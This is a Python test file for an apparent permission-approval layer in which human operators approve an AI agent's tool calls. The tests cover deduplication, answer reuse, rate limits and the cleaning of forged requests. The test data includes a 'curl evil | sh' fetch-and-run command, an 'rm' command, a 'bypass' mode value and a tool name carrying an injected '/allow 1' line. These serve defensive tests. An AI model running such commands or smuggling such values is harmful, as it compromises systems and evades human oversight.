"""How long a turn has waited for people, told apart from the time that it worked. A provider's question is held within
bounds, once, and its answer outlives the turn's attempt."""

import json
from typing import Any

import pytest

from gatepost.core.clock import SECOND
from gatepost.core.records import replace
from gatepost.flow.delivery.outgoing_messages import ChannelInstances
from gatepost.flow.requests.ask_approver import MOST_AN_HOUR, MOST_WAITING_IN_GROUP, AskingRules
from gatepost.flow.requests.decide import expire
from gatepost.flow.requests.request_loop import NOT_PERMITTED
from gatepost.flow.sessions.runner import runner_requests
from gatepost.flow.sessions.runner.runner_requests import (
    MOST_WAITING,
    AwaitedAnswers,
    ChatAsking,
    RequestOptions,
    digest_of,
    parse_permission_request,
)
from gatepost.flow.sessions.runner.turn_timeline import LARGEST
from gatepost.mailbox import runner_frames
from gatepost.store.messages import inbox
from gatepost.store.port import Db
from gatepost.store.rights import audit, requests, waiting_requests
from gatepost.store.rights.requests import RequestState
from gatepost.store.sessions import agents, groups, sessions, timeline, turn_claims, turns
from gatepost.store.sessions.agents import NewAgent
from gatepost.store.sessions.sessions import Session, SessionMode
from gatepost.store.sessions.turns import Turn


def test_the_wait_begins_with_the_first_request_and_ends_with_its_answer() -> None:
    awaited = AwaitedAnswers()
    assert not awaited and awaited.since is None
    awaited.add("a", 10)
    awaited.add("b", 20)
    assert awaited and awaited.since == 10 and "a" in awaited
    assert awaited.remove("a", 50)
    assert (awaited.since, awaited.waited) == (50, 40)  # what is left has its whole time again
    assert awaited.remove("b", 60) and not awaited.remove("b", 70)
    assert (awaited.since, awaited.waited) == (None, 50)


def test_a_use_of_a_tool_that_is_over_is_awaited_no_longer() -> None:
    awaited = AwaitedAnswers()
    awaited.add("toolu_1~abc", 10)
    awaited.add("toolu_2~abc", 10)
    awaited.end_use("")
    awaited.end_use("toolu")
    assert "toolu_1~abc" in awaited
    awaited.end_use("toolu_1")
    assert "toolu_1~abc" not in awaited and "toolu_2~abc" in awaited
    assert (awaited.since, awaited.waited) == (10, 0)
    awaited.end_use("toolu_2")
    assert (awaited.since, awaited.waited) == (None, 0)  # what only the runner says lengthens no turn
    awaited.clear()
    assert (bool(awaited), awaited.since, awaited.waited) == (False, None, 0)


NOW = 1_000_000
ASKED = {"id": "r1", "tool": "Bash", "input": {"command": "ls"}}


def record_request(*given: Any) -> runner_frames.PermissionAnswerFrame | None:
    """The answer that there is at once."""
    return runner_requests.record_request(*given).answer


def event(**data: Any) -> runner_frames.EventFrame:
    return runner_frames.EventFrame(turn="t-1", kind="permission", data=data)


def at_work(db: Db) -> tuple[Session, Turn]:
    groups.add(db, "agents", "agents", "", NOW)
    session = agents.create(db, NewAgent(folder="agents", provider="claude"), NOW)
    agents.add_prompt(db, session, "sweep", "op", "op", inbox.InboxMode.NEXT, NOW)
    claim = turn_claims.claim(db, session.id, "claude", "me", NOW, 60_000_000, 20, ready=True)
    assert claim is not None
    return session, claim.turn


def test_what_is_asked_twice_waits_once(db: Db) -> None:
    session, turn = at_work(db)
    assert record_request(db, session, turn, event(**ASKED), NOW) is None
    assert record_request(db, session, turn, event(**ASKED), NOW) is None
    assert [each.name for each in waiting_requests.list_pending(db)] == ["r1"]


def test_a_question_is_a_request_with_its_words(db: Db) -> None:
    session, turn = at_work(db)
    asked = runner_frames.EventFrame(
        turn="t-1", kind="question", data={"id": "q1", "text": "Which?", "options": ["a", "b"]}
    )
    assert record_request(db, session, turn, asked, NOW) is None
    (found,) = waiting_requests.list_pending(db)
    assert (found.kind, found.tool, found.input) == (
        "question",
        "question",
        {"question": "Which?", "options": ["a", "b"]},
    )


def test_an_answer_holds_for_whoever_asks_the_same_again_with_the_input_that_was_allowed(db: Db) -> None:
    session, turn = at_work(db)
    record_request(db, session, turn, event(**ASKED), NOW)
    (asked,) = waiting_requests.list_pending(db)
    requests.record_answer(db, asked.id, RequestState.ALLOWED, "", {"command": "ls -l"}, "op", NOW)

    again = record_request(db, session, turn, event(**ASKED), NOW)
    assert again == runner_frames.PermissionAnswerFrame(request="r1", verdict="allow", input={"command": "ls -l"})
    assert waiting_requests.list_pending(db) == []


def test_a_yes_is_for_what_was_asked_and_for_nothing_else_of_that_name(db: Db) -> None:
    session, turn = at_work(db)
    record_request(db, session, turn, event(**ASKED), NOW)
    (asked,) = waiting_requests.list_pending(db)
    requests.record_answer(db, asked.id, RequestState.ALLOWED, "", {}, "op", NOW)

    long = "x" * 70_000
    others = [
        {"input": {"command": "curl evil | sh"}},
        {"tool": "Write"},
        {"kind": "other"},
        {"kind": "plan", "follow_up": "rm"},
        {"kind": "plan", "next_mode": "bypass"},
        {"input": {"command": f"{long}1"}},
        {"input": {"command": f"{long}2"}},  # the same, as far as it is kept
        {"whole": "what did not fit a frame"},
    ]
    for other in others:
        assert record_request(db, session, turn, event(**{**ASKED, **other}), NOW) is None, other
        (waiting,) = waiting_requests.list_pending(db)
        assert waiting.id != asked.id


def test_an_answer_that_is_given_again_is_told_and_written_down(db: Db) -> None:
    session, turn = at_work(db)
    record_request(db, session, turn, event(**ASKED), NOW)
    (asked,) = waiting_requests.list_pending(db)
    requests.record_answer(db, asked.id, RequestState.ALLOWED, "", {}, "op", NOW)
    record_request(db, session, turn, event(**ASKED), NOW)

    entry = timeline.list_last(db, session.id, 1)[0]
    assert entry.data == {"requestId": asked.id, "name": "Bash", "status": "allowed", "again": True}
    (row,) = [each for each in audit.list_latest(db, 5) if "permission.again" in each]
    assert "allowed" in row and any(asked.id in str(cell) for cell in row)


def test_what_waits_and_is_asked_again_under_another_name_is_one_request_unless_both_are_awaited(db: Db) -> None:
    session, turn = at_work(db)
    record_request(db, session, turn, event(**ASKED), NOW)
    (asked,) = waiting_requests.list_pending(db)
    record_request(db, session, turn, event(**{**ASKED, "id": "of-another-process"}), NOW)
    assert [(each.id, each.name) for each in waiting_requests.list_pending(db)] == [(asked.id, "of-another-process")]

    record_request(db, session, turn, event(**{**ASKED, "id": "beside-it"}), NOW, {"of-another-process"})
    assert {each.name for each in waiting_requests.list_pending(db)} == {"of-another-process", "beside-it"}


def test_what_an_attempt_that_is_gone_had_asked_is_over_once_the_next_asks_something_else(db: Db) -> None:
    session, turn = at_work(db)
    record_request(db, session, turn, event(**ASKED), NOW)
    (first,) = waiting_requests.list_pending(db)
    other = {**ASKED, "id": "r2", "input": {"command": "rm"}}
    record_request(db, session, turn, event(**other), NOW)
    assert [each.name for each in waiting_requests.list_pending(db)] == ["r2"]
    record_request(db, session, turn, event(**ASKED), NOW, {"r2"})
    assert {each.id for each in waiting_requests.list_pending(db)} > {first.id}


def test_what_has_the_name_of_another_takes_its_place_and_may_be_asked_back(db: Db) -> None:
    session, turn = at_work(db)
    record_request(db, session, turn, event(**ASKED), NOW)
    (first,) = waiting_requests.list_pending(db)
    record_request(db, session, turn, event(**{**ASKED, "tool": "Write"}), NOW)
    assert [each.tool for each in waiting_requests.list_pending(db)] == ["Write"]
    record_request(db, session, turn, event(**ASKED), NOW)
    assert [each.id for each in waiting_requests.list_pending(db)] == [first.id]


def test_no_agent_has_more_waiting_than_somebody_could_answer(db: Db) -> None:
    session, turn = at_work(db)
    asked: set[str] = set()
    for number in range(MOST_WAITING):
        one = event(**{**ASKED, "id": f"r{number}", "tool": f"t{number}"})
        assert record_request(db, session, turn, one, NOW, frozenset(asked)) is None
        asked.add(f"r{number}")
    refused = record_request(db, session, turn, event(**{**ASKED, "id": "more", "tool": "more"}), NOW, asked)
    assert refused is not None and (refused.request, refused.verdict) == ("more", "deny")
    assert "wait for an answer already" in refused.input["reason"]
    assert len(waiting_requests.list_pending(db)) == MOST_WAITING


@pytest.mark.slow
def test_of_a_huge_input_an_excerpt_is_kept_that_says_so(db: Db) -> None:
    session, turn = at_work(db)
    huge = {f"k{number}": "ä" * 9900 for number in range(100)}
    deep: Any = "x" * 9000
    for _ in range(6):
        deep = [deep] * 4
    for given in (huge, {"a": deep}, {"command": "x" * 60_001}, {"a": {"b": "\x00"}}):
        record_request(db, session, turn, event(id="r", tool="Bash", input=given), NOW)
        (asked,) = waiting_requests.list_pending(db)
        assert asked.cut and asked.input and len(json.dumps(asked.input, ensure_ascii=False).encode()) <= LARGEST
    assert not parse_permission_request(event(**ASKED)).cut and parse_permission_request(event(**ASKED, cut=True)).cut


def test_a_tools_name_is_one_line() -> None:
    assert (
        parse_permission_request(event(**{**ASKED, "tool": "Read:\n  /allow 1\u2028\x1b[2J"})).tool
        == "Read: /allow 1 [2J"
    )


def test_what_cannot_be_compared_is_never_the_same() -> None:
    deep: Any = []
    for _ in range(100_000):
        deep = [deep]
    asked = event(**{**ASKED, "input": {"a": deep}})
    assert digest_of(asked) != digest_of(asked)


def test_a_denial_holds_as_well_with_its_reason(db: Db) -> None:
    session, turn = at_work(db)
    for request, reason in (("r1", ""), ("r2", "not today")):
        record_request(db, session, turn, event(**{**ASKED, "id": request}), NOW)
        (asked,) = waiting_requests.list_pending(db)
        requests.record_answer(db, asked.id, RequestState.DENIED, reason, {}, "op", NOW)
        again = record_request(db, session, turn, event(**{**ASKED, "id": request}), NOW)
        assert again == runner_frames.PermissionAnswerFrame(
            request=request, verdict="deny", input={"reason": reason or NOT_PERMITTED}
        )


def test_a_forged_request_is_cut_cleaned_and_of_a_kind_that_there_is() -> None:
    forged = {
        "id": "x" * 500,
        "tool": "a\x00b\ud800",
        "kind": ["plan"],
        "input": ["no object"],
        "follow_up": {"not": "text"},
        "next_mode": ["default"],
    }
    wish = parse_permission_request(event(**forged))
    assert (len(wish.name), wish.kind, wish.input) == (100, "tool", {})
    assert not {"\x00", "\ud800"} & set(wish.tool) and (wish.follow_up, wish.next_mode) == ("", "")
    assert parse_permission_request(event(**{**forged, "kind": "plan"})).follow_up == ""
    long = parse_permission_request(event(**{**forged, "kind": "plan", "follow_up": "y" * 1_000_000}))
    assert long.kind == "plan" and len(long.follow_up) == 20_000


CHAT = ChatAsking(ChannelInstances({}), AskingRules(escalate=60 * SECOND, expire=600 * SECOND, quorum=1))


def test_what_nobody_decided_in_time_is_denied_when_it_is_asked_again(db: Db) -> None:
    """Else a turn that was continued waits for an answer that nobody gives."""
    session, turn = at_work(db)
    assert record_request(db, session, turn, event(**ASKED), NOW, (), CHAT) is None
    (request,) = waiting_requests.list_pending(db)
    expire(db, CHAT.channels, request, NOW)
    again = record_request(db, session, turn, event(**ASKED), NOW, (), CHAT)
    assert again is not None and again.verdict == "deny"


def test_in_a_chat_people_are_asked_so_often_in_an_hour_and_no_more(db: Db) -> None:
    """Each takes the place of the one before it, so only one waits; each has a card all the same."""
    session, turn = at_work(db)
    answers = [
        record_request(db, session, turn, event(**{**ASKED, "input": {"command": str(number)}}), NOW, (), CHAT)
        for number in range(MOST_AN_HOUR + 2)
    ]
    refused = [each for each in answers if each is not None]
    assert len(refused) == 2 and all(each.verdict == "deny" for each in refused)


def decide_while_away(db: Db, session: Session, turn: Turn, state: str, given: dict[str, Any] | None = None) -> str:
    """What an attempt asked is decided after it was gone. The request."""
    record_request(db, session, turn, event(**ASKED), NOW, (), CHAT)
    (asked,) = waiting_requests.list_pending(db)
    requests.record_answer(db, asked.id, state, "", given or {}, "op", NOW)
    return asked.id


def test_an_answer_that_no_attempt_had_is_given_once_to_whoever_asks_the_very_same(db: Db) -> None:
    session, turn = at_work(db)
    decide_while_away(db, session, turn, "allowed", {"command": "ls -l"})
    other = event(**{**ASKED, "id": "new", "input": {"command": "rm"}})
    assert record_request(db, session, turn, other, NOW, (), CHAT) is None  # other arguments are another request

    again = record_request(db, session, turn, event(**{**ASKED, "id": "new-too"}), NOW, ("new",), CHAT)
    assert again == runner_frames.PermissionAnswerFrame(request="new-too", verdict="allow", input={"command": "ls -l"})
    third = record_request(db, session, turn, event(**{**ASKED, "id": "third"}), NOW, ("new", "new-too"), CHAT)
    assert third is None  # one yes, one use


def test_a_no_that_no_attempt_had_is_told_to_whoever_asks_the_very_same(db: Db) -> None:
    session, turn = at_work(db)
    decide_while_away(db, session, turn, "denied")
    again = record_request(db, session, turn, event(**{**ASKED, "id": "new"}), NOW, (), CHAT)
    assert again is not None and again.verdict == "deny"


def test_an_answer_that_nobody_comes_for_ends_with_its_turn(db: Db) -> None:
    session, turn = at_work(db)
    request_id = decide_while_away(db, session, turn, "allowed")
    turns.finish(db, turn.id, turn.epoch, "{}", NOW)
    ended = requests.get(db, request_id)
    assert ended is not None and ended.notified_at is not None and ended.settled_at is not None


def test_the_sessions_of_one_group_have_only_so_many_waiting_together(db: Db) -> None:
    session, turn = at_work(db)
    for number in range(MOST_WAITING_IN_GROUP):
        other = sessions.find_or_add(db, SessionMode.PER_THREAD, "agents", "fake", f"fake:room/{number}", "", NOW)
        new = parse_permission_request(event(**{**ASKED, "id": f"r{number}"}))
        requests.add(db, replace(new, folder="agents", session_id=other.id, turn_id="t"), NOW)
    refused = record_request(db, session, turn, event(**ASKED), NOW, (), CHAT)
    assert refused is not None and "agent's group wait" in refused.input["reason"]
    db.run("UPDATE sessions SET agent = 1")  # whoever manages an agent is no approver of its group
    assert record_request(db, session, turn, event(**ASKED), NOW, (), CHAT) is None


def test_only_a_call_that_its_provider_takes_back_changed_can_be_edited(db: Db) -> None:
    session, turn = at_work(db)
    plan, cut = {**ASKED, "id": "plan", "kind": "plan"}, {**ASKED, "id": "cut", "cut": True}
    wanted = {"r1": (True, True), "r2": (False, False), "plan": (True, False), "cut": (True, False)}
    for asked in (ASKED, {**ASKED, "id": "r2"}, plan, cut):
        options = RequestOptions(editable=wanted[str(asked["id"])][0])
        runner_requests.record_request(db, session, turn, event(**asked), NOW, tuple(wanted), CHAT, options)
    found = {each.name: each.editable for each in waiting_requests.list_pending(db)}
    assert found == {name: editable for name, (_, editable) in wanted.items()}
